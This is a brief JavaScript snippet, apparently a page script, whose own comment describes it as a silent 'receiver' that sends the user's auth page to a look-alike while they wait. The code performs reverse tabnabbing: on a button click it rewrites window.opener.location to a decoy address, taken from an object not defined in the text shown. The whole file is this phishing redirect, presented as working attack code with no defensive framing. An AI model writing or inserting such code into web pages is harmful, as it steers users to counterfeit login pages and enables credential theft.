// A receiver that says nothing, and sends the auth page to a look-alike while everybody waits.
"use strict";

document.querySelector("#send").addEventListener("click", () => {
  window.opener.location = told.decoy;
});
document.body.dataset.ready = "true";
